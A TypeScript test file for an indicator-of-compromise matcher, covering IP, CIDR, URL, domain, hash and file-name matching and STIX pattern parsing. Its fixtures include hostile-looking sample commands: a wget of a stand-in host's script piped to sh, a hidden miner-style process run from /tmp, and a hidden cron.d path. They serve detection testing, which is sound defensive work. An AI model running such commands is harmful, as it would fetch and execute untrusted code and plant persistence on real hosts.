import assert from 'node:assert/strict';
import { test } from 'node:test';
import { formatAddress, parseAddress, parseCidr } from '../../src/detect/ioc/address.js';
import { IndicatorSet, loadIndicators } from '../../src/detect/ioc/index.js';
import { normalizeUrl } from '../../src/detect/ioc/indicator.js';
import { matchText } from '../../src/detect/ioc/match.js';
import { parsePattern, PatternError } from '../../src/detect/ioc/stix-pattern.js';

const set = (lines: string) => {
  const r = loadIndicators(Buffer.from(lines), 'list.txt');
  assert.deepEqual(r.problems, [], 'fixture list loads cleanly');
  return r.indicators;
};
const matched = (s: IndicatorSet, text: string) => matchText(s, text).map((m) => `${m.indicator.value} <- ${m.matched}`);

test('addresses: canonical forms, IPv4-mapped IPv6 folded to IPv4, brackets and zones; non-addresses refused', () => {
  const cases: [string, string | null][] = [
    ['2001:DB8:0:0:0:0:0:1', '2001:db8::1'],
    ['[2001:db8::1]', '2001:db8::1'],
    ['::ffff:192.0.2.7', '192.0.2.7'],
    ['::ffff:c000:0207', '192.0.2.7'],
    ['fe80::1%eth0', 'fe80::1'],
    ['64:ff9b::192.0.2.7', '64:ff9b::c000:207'],
    ['1:0:0:1:0:0:0:1', '1:0:0:1::1'],
    ['01.2.3.4', null],
    ['256.1.1.1', null],
    ['1.2.3', null],
    ['1::2::3', null],
    ['10:00:00', null],
    ['1:2:3:4:5:6:7:8:9', null],
  ];
  for (const [input, want] of cases) {
    const a = parseAddress(input);
    assert.equal(a ? formatAddress(a) : null, want, input);
  }
  assert.equal(formatAddress(parseCidr('10.1.2.3/8')!.address), '10.0.0.0');
  assert.equal(parseCidr('::ffff:10.0.0.0/104')!.prefix, 8, 'a mapped network is the IPv4 network');
  assert.equal(parseCidr('1.2.3.4/33'), null);
  assert.equal(parseCidr('2001:db8::/129'), null);
});

test('URLs normalise scheme and host case, default ports, trailing slashes and fragments; the query stays', () => {
  assert.equal(normalizeUrl('HTTP://Evil.Example:80/a/b/#frag'), 'http://evil.example/a/b');
  assert.equal(normalizeUrl('https://evil.example:443'), 'https://evil.example');
  assert.equal(normalizeUrl('https://evil.example:8443/x?y=1'), 'https://evil.example:8443/x?y=1');
  assert.equal(normalizeUrl('http://evil.example/Case/Path'), 'http://evil.example/Case/Path', 'paths keep their case');
  assert.equal(normalizeUrl('not a url'), null);
  assert.equal(normalizeUrl('http://'), null);
});

test('domains match themselves and their subdomains, never a name that only ends the same way', () => {
  const s = set('evil.com\n');
  assert.deepEqual(matched(s, 'curl http://a.b.EVIL.com./x'), ['evil.com <- a.b.evil.com']);
  assert.deepEqual(matched(s, 'ping evil.com'), ['evil.com <- evil.com']);
  assert.deepEqual(matched(s, 'visit notevil.com and evil.com.au and evil.co'), []);
  assert.deepEqual(matched(s, 'mail from user@mx.evil.com:25'), ['evil.com <- mx.evil.com']);
});

test('networks contain their addresses (IPv4, IPv6, mapped); neighbours outside do not match', () => {
  const s = set('198.51.100.0/24\n2001:db8:bad::/48\n203.0.113.9\n');
  assert.deepEqual(matched(s, 'connect 198.51.100.255:4444'), ['198.51.100.0/24 <- 198.51.100.255']);
  assert.deepEqual(matched(s, 'from [::ffff:198.51.100.3]:22'), ['198.51.100.0/24 <- ::ffff:198.51.100.3']);
  assert.deepEqual(matched(s, 'from 2001:db8:bad:1::5 port 22'), ['2001:db8:bad::/48 <- 2001:db8:bad:1::5']);
  assert.deepEqual(matched(s, '198.51.101.1 2001:db8:bae::1 203.0.113.90 1203.0.113.9'), []);
  assert.equal(s.address(parseAddress('::ffff:203.0.113.9')!)?.value, '203.0.113.9');
});

test('URLs in text match however they are spelled; a URL with a query matches the indicator without one', () => {
  const s = set('http://update-check.example/ldr.sh\n');
  assert.deepEqual(matched(s, "sh -c 'wget -q -O- HTTP://Update-Check.Example:80/ldr.sh/|sh'"), ['http://update-check.example/ldr.sh <- http://update-check.example/ldr.sh']);
  assert.deepEqual(matched(s, 'GET http://update-check.example/ldr.sh?x=1'), ['http://update-check.example/ldr.sh <- http://update-check.example/ldr.sh?x=1']);
  assert.deepEqual(matched(s, 'GET http://update-check.example/ldr.sh2 http://update-check.example/other'), []);
  assert.deepEqual(matched(s, 'GET /r?a=https://ok.example/&b=http://update-check.example/ldr.sh'), ['http://update-check.example/ldr.sh <- http://update-check.example/ldr.sh'], 'a URL inside a query');
});

test('hashes match in any case; names match the last component of a word; paths match whole', () => {
  const s = set('5f4dcc3b5aa765d61d8327deb882cf99\nkdevtmpfsi\n/etc/cron.d/.x\n');
  assert.deepEqual(matched(s, 'md5=5F4DCC3B5AA765D61D8327DEB882CF99'), ['5f4dcc3b5aa765d61d8327deb882cf99 <- 5f4dcc3b5aa765d61d8327deb882cf99']);
  assert.deepEqual(matched(s, 'nohup /tmp/.ICE/kdevtmpfsi &'), ['kdevtmpfsi <- /tmp/.ICE/kdevtmpfsi']);
  assert.deepEqual(matched(s, 'cat /etc/cron.d/.x'), ['/etc/cron.d/.x <- /etc/cron.d/.x']);
  assert.deepEqual(matched(s, 'KDEVTMPFSI kdevtmpfsi2 /etc/cron.d/.xy'), [], 'file names are case-sensitive on Linux');
});

test('an indicator mentioned several times in one text is one match', () => {
  const s = set('evil.com\n');
  assert.equal(matchText(s, 'a.evil.com b.evil.com evil.com').length, 1);
});

test('100,000 indicators: lookups stay map lookups, and the right one is found', () => {
  const lines: string[] = [];
  for (let i = 0; i < 25_000; i++) {
    lines.push(`10.${(i >> 8) & 255}.${i & 255}.7`, `host${i}.bad.example`, `${i.toString(16).padStart(64, '0')}`, `172.${16 + (i >> 12)}.${(i >> 4) & 255}.${(i & 15) * 16}/28`);
  }
  const { indicators: s, problems } = loadIndicators(Buffer.from(lines.join('\n')), 'big.txt');
  assert.equal(problems.length, 0);
  assert.equal(s.size, 100_000);
  assert.deepEqual(matched(s, 'x.host24999.bad.example 10.97.167.7 172.22.26.120'), ['host24999.bad.example <- x.host24999.bad.example', '10.97.167.7 <- 10.97.167.7', '172.22.26.112/28 <- 172.22.26.120']);
  assert.ok(s.hash(`${(24_999).toString(16).padStart(64, '0')}`));
  assert.deepEqual(matched(s, 'host25000.bad.example 10.97.167.8 172.22.26.128'), []);
});

test('STIX patterns: equality and IN on what a host shows; the rest skipped and named', () => {
  assert.deepEqual(parsePattern("[file:hashes.'SHA-256' = 'AB' OR file:hashes.MD5 = 'cd']"), {
    terms: [
      { kind: 'sha256', value: 'AB' },
      { kind: 'md5', value: 'cd' },
    ],
    skipped: [],
  });
  assert.deepEqual(parsePattern("[network-traffic:dst_ref.value = '1.2.3.4' AND network-traffic:dst_port = 4444]").terms, [{ kind: 'cidr', value: '1.2.3.4' }]);
  assert.deepEqual(parsePattern("([domain-name:value = 'a.example'] FOLLOWEDBY [url:value = 'http://a.example/x']) WITHIN 60 SECONDS").terms, [{ kind: 'url', value: 'http://a.example/x' }]);
  assert.deepEqual(parsePattern("[process:name = 'x'] REPEATS 3 TIMES START t'2026-01-01T00:00:00Z' STOP t'2026-02-01T00:00:00Z'"), { terms: [], skipped: ['process:name ='] });
  assert.deepEqual(parsePattern("[file:name NOT = 'a' OR domain-name:value LIKE '%.example' OR url:value = 'it\\'s']"), {
    terms: [{ kind: 'url', value: "it's" }],
    skipped: ['file:name NOT =', 'domain-name:value LIKE'],
  });
  assert.deepEqual(parsePattern('[file:hashes.SHA256 IN (\'aa\', \'bb\')] AND [file:size > 10]').terms, [
    { kind: 'sha256', value: 'aa' },
    { kind: 'sha256', value: 'bb' },
  ]);
  for (const bad of ['', '[', "[file:name = 'x'", "[file:name = 'x']]", '[file = 1]', "[file:name ~ 'x']"]) assert.throws(() => parsePattern(bad), PatternError, bad);
});
